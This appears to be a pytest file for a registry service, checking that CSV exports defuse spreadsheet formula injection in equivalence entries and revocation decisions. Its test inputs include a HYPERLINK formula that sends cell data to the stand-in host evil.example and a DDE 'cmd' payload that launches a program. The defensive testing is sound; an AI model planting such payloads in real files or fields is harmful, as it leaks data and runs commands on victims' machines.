"""Every CSV the services write is safe to open in a spreadsheet program: text that begins
with a formula trigger (OWASP: = + - @ tab CR) comes out with a leading single quote, every
cell quoted, whatever the bureau typed into the equivalence list or a revocation decision."""

from __future__ import annotations

import csv
import io

from tests.batch_helpers import past_row, titles_held
from tests.factories import bearer
from tests.status_helpers import REVOKE, change

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"x")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    for line in text[1:].split("\r\n")[:-1]:
        assert line.startswith('"') and line.endswith('"'), line  # every cell quoted
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_equivalence_entries_typed_as_formulas_come_out_as_text(registry, verify, tokens):
    auth = bearer(tokens["bureau"])
    for index, first in enumerate(TRIGGERS):
        added = registry.post(
            "/api/v1/equivalences",
            json={
                "code": f"EVIL-{index}",
                "name_zh": f"{first}{PAYLOAD}{index}",
                "name_en": f"{first}1+{index}",
                "awarding_body": f"{first}cmd|' /C calc'!A0",
                "grade": "ungraded",
                "note": f"{first}SUM(1,{index})",
            },
            headers=auth,
        )
        assert added.status_code == 201, added.json
        assert added.json["name_zh"] == f"{first}{PAYLOAD}{index}"  # stored as typed
    rows = _rows(verify.get("/api/v1/equivalences.csv"))
    assert [row["code"] for row in rows] == [f"EVIL-{i}" for i in range(len(TRIGGERS))]
    for index, (first, row) in enumerate(zip(TRIGGERS, rows, strict=True)):
        assert row["name_zh"] == f"'{first}{PAYLOAD}{index}"
        assert row["name_en"] == f"'{first}1+{index}"
        assert row["awarding_body"] == f"'{first}cmd|' /C calc'!A0"
        assert row["note"] == f"'{first}SUM(1,{index})"
        # what no one typed is as it was: the level's title, the dates, the flags
        assert row["title_zh"] == "工程师" and row["provisional"] == "False"
        assert row["effective_from"][:2] == "20" and row["effective_to"] == ""
    # The JSON answer is data, not a spreadsheet: it keeps the text as typed.
    entries = verify.get("/api/v1/equivalences").json["entries"]
    assert entries[0]["name_zh"] == f"={PAYLOAD}0"


def test_revocation_decisions_typed_as_formulas_come_out_as_text(
    registry_app, registry, verify, tokens
):
    serials = titles_held(registry_app, [past_row(i) for i in range(len(TRIGGERS))])
    for index, (serial, first) in enumerate(zip(serials, TRIGGERS, strict=True)):
        number = f"{first}{PAYLOAD}{index}"
        revoked = change(
            registry, serial, tokens["bureau"], **(REVOKE | {"decision_number": number})
        )
        assert revoked.status_code == 201, revoked.json
    rows = _rows(verify.get("/api/v1/revocations.csv"))
    by_serial = {row["serial"]: row for row in rows}
    assert by_serial.keys() == set(serials)
    for index, (serial, first) in enumerate(zip(serials, TRIGGERS, strict=True)):
        row = by_serial[serial]
        assert row["decision_number"] == f"'{first}{PAYLOAD}{index}"
        assert (row["reason_class"], row["effective_date"]) == ("fraud", "2026-11-20")
        assert row["committee_code"] == "BJ-DZ-01"
    register = verify.get("/api/v1/revocations").json["items"]
    assert {item["decision_number"] for item in register} == {
        f"{first}{PAYLOAD}{index}" for index, first in enumerate(TRIGGERS)
    }
